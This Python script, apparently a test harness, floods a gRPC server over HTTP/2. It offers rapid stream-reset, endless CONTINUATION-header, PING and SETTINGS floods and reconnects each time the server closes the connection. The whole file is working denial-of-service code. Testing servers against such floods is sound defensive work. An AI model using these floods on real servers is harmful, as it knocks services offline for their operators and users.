#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods a gRPC server with HTTP/2 frames, and comes back whenever it is closed.

usage: attacker.py FLOOD HOST PORT SECONDS [CERT KEY CA]    without CERT: over plain TCP

One line of JSON at the end: connections that were let in, bytes sent on them, how they ended.
"""
import collections
import json
import socket
import ssl
import sys
import time

import h2

PERIOD = 64 * 1024  # bytes given to the socket at a time, about
HEADER_BLOCK = 64 << 20  # bytes sent on one connection, if it is let
OTHERS = 8 << 20  # half a million pings


def begun(first):
    """Streams without end: HEADERS, then RST_STREAM."""
    stream = first
    while True:
        yield h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers())
        yield h2.frame(h2.RST_STREAM, 0, stream, b'\0\0\0\x08')
        stream += 2


def repeated(frame):
    while True:
        yield frame


def header_block():
    """One header block without end: a string that is continued for ever."""
    yield h2.frame(h2.HEADERS, 0, 1, h2.call_headers() + b'\0\1x\x7f\xff\xff\xff\x7f' + bytes(9000))
    yield from repeated(h2.frame(h2.CONTINUATION, 0, 1, b'a' * 16000))


FLOODS = {
    'reset': lambda: begun(1),
    'headers': header_block,
    'ping': lambda: repeated(h2.frame(h2.PING, 0, 0, bytes(8))),
    'settings': lambda: repeated(h2.frame(h2.SETTINGS_TYPE, 0, 0, b'\0\4\0\1\0\0')),
}


def prepared(flood, size):
    """The flood's first `size` bytes, in parts."""
    parts, part, total = [], b'', 0
    for frame in FLOODS[flood]():
        part += frame
        if len(part) >= PERIOD:
            parts.append(part)
            total += len(part)
            part = b''
        if total >= size:
            return parts


def attack(connection, parts, until):
    """Sends until the end, reading what comes; the bytes that were sent."""
    sent = 0
    connection.sendall(h2.PREFACE + h2.SETTINGS)
    connection.settimeout(1)
    for part in parts:
        if time.monotonic() > until:
            break
        connection.sendall(part)
        sent += len(part)
    return sent


def main(flood, host, port, seconds, *files):
    parts = prepared(flood, HEADER_BLOCK if flood == 'headers' else OTHERS)
    context = None
    if files:
        context = ssl.create_default_context(cafile=files[2])
        context.load_cert_chain(files[0], files[1])
        context.set_alpn_protocols(['h2'])
    print('armed', flush=True)
    sys.stdin.readline()
    until = time.monotonic() + float(seconds)
    ends = collections.Counter()
    let_in = sent = 0
    while time.monotonic() < until:
        try:
            with socket.create_connection((host, int(port)), 5) as raw:
                connection = raw
                if context:
                    connection = context.wrap_socket(raw, server_hostname='localhost')
                let_in += 1
                sent += attack(connection, parts, until)
                ends['kept'] += 1
        except OSError as error:
            ends[type(error).__name__] += 1
    print(json.dumps({'let_in': let_in, 'sent': sent, 'ends': ends}))


if __name__ == '__main__':
    main(*sys.argv[1:])
